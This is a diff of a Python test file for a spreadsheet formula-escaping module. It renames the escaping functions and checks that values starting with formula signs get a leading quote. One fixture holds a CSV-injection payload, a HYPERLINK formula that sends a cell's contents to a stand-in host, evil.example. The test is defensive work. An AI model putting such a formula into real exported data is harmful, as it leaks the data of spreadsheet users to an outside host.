@@ -10,7 +10,7 @@ from decimal import Decimal
 import pyarrow as pa
 import pytest
 
-from basketry.files.spreadsheets import csv_line, harmless, harmless_table
+from basketry.files.spreadsheets import csv_line, escape_formula, escape_formulas
 
 EVIL = '=HYPERLINK("http://evil.example/?"&C2,"Jane Roe")'
 RUN = (
@@ -42,15 +42,15 @@ LEFT = ("Jane Roe", "a=b", "+12125550143", "+4930231250", "1-2", "", "'=1", "O'N
 @pytest.mark.parametrize("text", RUN)
 def test_a_text_that_would_run_is_guarded(text: str) -> None:
     """Whatever it begins with: formula signs, also after blanks that nobody sees and in full width; by value and by column."""
-    assert harmless(text) == f"'{text}"
-    assert harmless_table(pa.table({"a": [text, None]})).column("a").to_pylist() == [f"'{text}", None]
+    assert escape_formula(text) == f"'{text}"
+    assert escape_formulas(pa.table({"a": [text, None]})).column("a").to_pylist() == [f"'{text}", None]
 
 
 @pytest.mark.parametrize("text", LEFT)
 def test_every_other_text_stays(text: str) -> None:
     """A telephone number as E.164 among them: a dialler reads it."""
-    assert harmless(text) == text
-    assert harmless_table(pa.table({"a": [text]})).column("a").to_pylist() == [text]
+    assert escape_formula(text) == text
+    assert escape_formulas(pa.table({"a": [text]})).column("a").to_pylist() == [text]
 
 
 def test_numbers_are_bare_and_texts_are_quoted() -> None:
@@ -64,5 +64,5 @@ def test_numbers_are_bare_and_texts_are_quoted() -> None:
 def test_columns_that_are_no_text_are_left_alone() -> None:
     """Numbers keep their type."""
     table = pa.table({"a": [-1, None], "b": ["=1", "x"]})
-    assert harmless_table(table).schema == table.schema
-    assert harmless_table(table).to_pylist() == [{"a": -1, "b": "'=1"}, {"a": None, "b": "x"}]
+    assert escape_formulas(table).schema == table.schema
+    assert escape_formulas(table).to_pylist() == [{"a": -1, "b": "'=1"}, {"a": None, "b": "x"}]
